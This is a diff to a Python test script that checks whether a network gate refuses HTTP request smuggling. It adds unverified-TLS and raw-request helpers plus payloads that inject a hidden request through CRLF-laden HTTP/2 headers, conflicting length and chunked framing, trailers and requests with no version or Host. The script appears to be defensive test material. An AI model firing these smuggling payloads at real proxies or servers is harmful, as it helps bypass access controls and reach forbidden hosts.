@@ -1,12 +1,14 @@
 """gate-smuggling: One request that two readers take for two, or for another.
 
 Does: both lengths, two codings, folded fields, bare line feeds, HTTP/2 asked for or begun in plain text, a request behind a
-refused one. The nonce is in the hidden one alone. Must happen: refused; no canary hears of it.
+refused one, the protocol's old versions. The nonce is in the hidden one alone. Must happen: refused; no canary hears of it.
 """
 
+import errno
 import json
 import os
 import socket
+import ssl
 import struct
 import sys
 
@@ -128,6 +130,33 @@ def look_up(name, server="198.51.100.53"):
     return given[0] if given else None
 
 
+def tls(address, name, port=443, alpn=("http/1.1",)):
+    """A TLS connection that trusts whoever answers (the canary decides, not the client): the socket, or the errno."""
+    one = patient(socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET))
+    wrong = attempt(one.connect, (address, port))
+    tried("connect", "connect", addr=inet(address, port), errno=wrong)
+    if wrong:
+        return wrong
+    context = ssl._create_unverified_context()
+    context.set_alpn_protocols(list(alpn))
+    one.settimeout(4)
+    try:
+        return context.wrap_socket(one, server_hostname=name)
+    except OSError as error:
+        return error.errno or 104
+
+
+def http(one, target, host, *more, method="GET", body=b""):
+    """One request on a connection; what came back, the connection then being closed."""
+    if isinstance(one, int):
+        return b""
+    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", "Connection: close", *more]
+    if body:
+        lines.append(f"Content-Length: {len(body)}")
+    attempt(one.sendall, "\r\n".join(lines).encode() + b"\r\n\r\n" + body)
+    return listen_for(one)[0]
+
+
 def status(answer):
     """The status of an HTTP answer, 0 without one."""
     words = answer.split(None, 2)
@@ -168,6 +197,23 @@ def h2_get(stream, authority, path, *more):
 
 
 host = "web.allowed.test"
+if CASE.startswith("h2-"):  # HTTP/2 to the gate, which may well speak HTTP/1 to the outside
+    one = tls(here("drop.allowed.test" if CASE in ("h2-length", "h2-coding") else host), "drop.allowed.test" if CASE in ("h2-length", "h2-coding") else host, alpn=("h2",))
+    if isinstance(one, int) or one.selected_alpn_protocol() != "h2":
+        end("inapplicable", "the gate speaks no HTTP/2 to the box")
+    inner = f"GET /{NONCE} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
+    post = ((b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"drop.allowed.test"), (b":path", b"/x"))
+    said = {
+        "h2-value": lambda: h2_get(1, host.encode(), b"/x", (b"x", b"a\r\n\r\n" + inner)),
+        "h2-name": lambda: h2_get(1, host.encode(), b"/x", (b"x: a\r\nhost: " + NONCE.encode() + b".denied.test\r\ny", b"b")),
+        "h2-path": lambda: h2_get(1, host.encode(), b"/x HTTP/1.1\r\nHost: web.allowed.test\r\n\r\nGET /" + NONCE.encode()),
+        "h2-authority": lambda: h2_get(1, host.encode() + b"\r\nX: " + NONCE.encode(), b"/x"),
+        "h2-length": lambda: frame(1, 4, 1, fields(*post, (b"content-length", b"0"))) + frame(0, 1, 1, inner),
+        "h2-coding": lambda: frame(1, 4, 1, fields(*post, (b"transfer-encoding", b"chunked"))) + frame(0, 1, 1, b"0\r\n\r\n" + inner),
+    }[CASE]()
+    one.sendall(PREFACE + frame(4, 0, 0, b"") + said)
+    got, _ = listen_for(one)
+    end(answer=0, got=got[:200])
 hidden = f"GET /{NONCE} HTTP/1.1\r\nHost: {host}\r\n\r\n"
 lengths = f"POST /x HTTP/1.1\r\nHost: drop.allowed.test\r\n"
 said = {
@@ -183,6 +229,9 @@ said = {
     "chunk-extension": lengths + "Transfer-Encoding: chunked\r\n\r\n0;\n" + hidden + "\r\n\r\n",
     "h2c-upgrade": f"GET /{NONCE} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
     "pipelined": f"GET /x HTTP/1.1\r\nHost: web.denied.test\r\n\r\n" + hidden,
+    "no-version": f"GET /{NONCE}\r\n\r\n",
+    "no-host": f"GET /{NONCE} HTTP/1.0\r\n\r\n",
+    "trailers": lengths + f"Transfer-Encoding: chunked\r\nTrailer: X\r\n\r\n0\r\nHost: {NONCE}.denied.test\r\n\r\n",
     "prior-knowledge": "",
 }[CASE].encode()
 if CASE == "prior-knowledge":
